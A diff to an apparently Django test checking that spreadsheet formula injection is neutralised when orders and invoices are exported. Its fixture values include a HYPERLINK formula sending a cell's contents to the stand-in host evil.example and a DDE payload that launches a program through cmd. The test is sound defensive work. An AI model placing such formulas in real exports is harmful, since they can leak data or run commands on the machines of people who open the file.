@@ -279,10 +279,10 @@ def test_formula_injection_is_neutralised(admin_client):
         customer_name='=HYPERLINK("https://evil.example/?x="&A1,"Clique")',
         city="+55 11 99999",
         state_code="@SUM",
-        vtex_status="-2+3",
     )
     invoice = make_invoice(order, quantities={0: 1}, number="=1+1")
     invoice_set_tracking(invoice=invoice, tracking_number="=cmd|' /C calc'!A0", courier="@Correios")
+    Order.objects.filter(pk=order.pk).update(vtex_status="-2+3")  # a status VTEX never sends
 
     order_row = rows_of(body(export_action(admin_client, ORDERS, [order.pk])))[1]
     invoice_row = rows_of(body(export_action(admin_client, INVOICES, [invoice.pk])))[1]
